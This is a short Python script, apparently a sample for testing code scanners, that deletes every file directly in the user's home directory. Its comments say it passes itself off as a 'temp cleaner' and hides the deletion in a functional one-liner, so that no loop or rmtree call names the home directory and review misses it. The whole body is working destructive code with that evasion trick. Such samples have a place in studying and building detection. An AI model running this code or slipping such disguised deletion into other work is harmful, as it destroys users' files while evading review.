# Evasion: deletes every file in the user's home directory.
# Hidden in a functional one-liner of a "temp cleaner": os.remove is mapped
# over the files (filter(os.path.isfile, ...)) of glob.glob() of the home's
# entries and the lazy map is drained by list(), so no loop or rmtree call
# names the home.
import glob
import os

HOME = os.path.expanduser("~")


def clean(pattern):
    removed = list(map(os.remove, filter(os.path.isfile, glob.glob(pattern))))
    return len(removed)


print("cleaned", clean(os.path.join(HOME, "*")), "files")
